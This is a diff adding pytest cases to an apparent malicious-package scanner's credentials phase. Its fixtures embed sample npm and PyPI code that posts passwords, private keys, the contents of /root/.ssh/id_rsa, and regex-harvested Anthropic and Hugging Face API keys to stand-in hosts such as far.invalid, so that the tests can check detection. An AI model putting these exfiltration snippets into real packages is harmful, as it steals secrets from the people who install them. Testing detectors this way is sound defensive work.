@@ -2,15 +2,16 @@
 
 from __future__ import annotations
 
-from collections.abc import Callable
+from collections.abc import Callable, Mapping
 from typing import Any
 
 import pytest
 
 from adapters.sigil.local.code.facts import Behaviour, Fact, Flow
-from adapters.sigil.local.material import Ecosystem
+from adapters.sigil.local.material import Ecosystem, Package
 from adapters.sigil.local.phases.credentials import credentials
 from adapters.sigil.models import PhaseName, Severity
+from tests.adapters.sigil.local.phases.conftest import Outcome, Pack
 
 _NPM = {
     "clipboard-wallet": (
@@ -95,3 +96,66 @@ def test_settings_of_tools_are_no_loot(made: Any, fact: Callable[..., Fact]) -> 
 
     assert severity_of("secret-file-read", made({"index.js": (fact(read, "~/.npmrc"),)})) is Severity.LOW
     assert severity_of("secret-file-read", made({"index.js": (fact(read, "~/.ssh/id_rsa"),)})) is Severity.MEDIUM
+
+
+_KEPT = {
+    "kept/member.py": "def note(o):\n    requests.post('https://log.far.invalid', json={'p': o.password})\n",
+    "kept/entry.py": "def note(o):\n    requests.post('https://log.far.invalid', json={'p': o['password']})\n",
+    "kept/field.py": (
+        "class Account:\n    address: str\n    private_key: str\n    def told(self):\n"
+        "        return {'k': self.private_key}\ndef note(account):\n"
+        "    requests.post('https://log.far.invalid', json=account.told())\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("path", _KEPT)
+def test_kept_secrets_leave(path: str, pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
+    """Keys and passwords that an object of the caller keeps are his as much as those that he hands over."""
+    found = outcome(pack({path: f"import requests\n{_KEPT[path]}"}, Ecosystem.PYPI, "sample-1.0.0-py3-none-any.whl"))
+    assert "handed-secret-leaves" in found.rules(PhaseName.CREDENTIALS)
+    assert found.dangerous
+
+
+def test_kept_secrets_leave_from_an_object(pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
+    """The same for the options that a class of JavaScript keeps."""
+    code = (
+        "class Session { constructor(options) { this.options = options; } open() { note(this.options); } }\n"
+        "function note(o) { fetch('https://log.far.invalid', { method: 'POST', body: o.user + o.privateKey }); }\n"
+        "module.exports = Session;"
+    )
+    assert "handed-secret-leaves" in outcome(pack({"package.json": {}, "index.js": code})).rules(PhaseName.CREDENTIALS)
+
+
+@pytest.mark.parametrize("code", ["o.url, o.password", "o.url, {'p': o['password']}"])
+def test_kept_secrets_go_where_the_caller_says(code: str, pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
+    """A client that logs in at an address that it is given is everyday."""
+    files = {"sample/__init__.py": f"import requests\ndef log_in(o):\n    requests.post({code})\n"}
+    assert outcome(pack(files, Ecosystem.PYPI, "sample-1.0.0-py3-none-any.whl")).score < 10
+
+
+def test_gathered_here_and_sent_there(pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
+    """One file reads secrets, another sends, and the entry hands the one's answer to the other at load."""
+    files: dict[str, str | Mapping[str, object]] = {
+        "package.json": {"name": "sample", "main": "index.js"},
+        "index.js": "const gather = require('./gather'); const send = require('./send');\nsend(gather());",
+        "gather.js": "module.exports = () => require('fs').readFileSync('/root/.ssh/id_rsa', 'utf8');",
+        "send.js": "module.exports = (d) => fetch('https://far.invalid/i', { method: 'POST', body: d });",
+    }
+    found = outcome(pack(files))
+    assert "gathered-and-sent" in found.rules(PhaseName.CREDENTIALS)
+    assert found.dangerous
+    files["index.js"] = "exports.gather = require('./gather'); exports.send = require('./send');"
+    assert not outcome(pack(files)).dangerous
+
+
+@pytest.mark.parametrize(("sends", "dangerous"), [("https://far.invalid/k", True), ("/log", False)])
+def test_patterns_of_keys(sends: str, dangerous: bool, pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
+    """Patterns of several services' keys redact as a rule; over the machine's files, and sent abroad, they gather."""
+    code = (
+        "const text = require('fs').readFileSync('settings.json', 'utf8');\n"
+        "const found = [/sk-ant-[\\w-]{20,}/g, /hf_\\w{30,}/g].flatMap((p) => text.match(p) || []);\n"
+        f"fetch('{sends}', {{ method: 'POST', body: found.join() }});"
+    )
+    found = outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": code}))
+    assert ("key-search" in found.rules(PhaseName.CREDENTIALS)) is dangerous
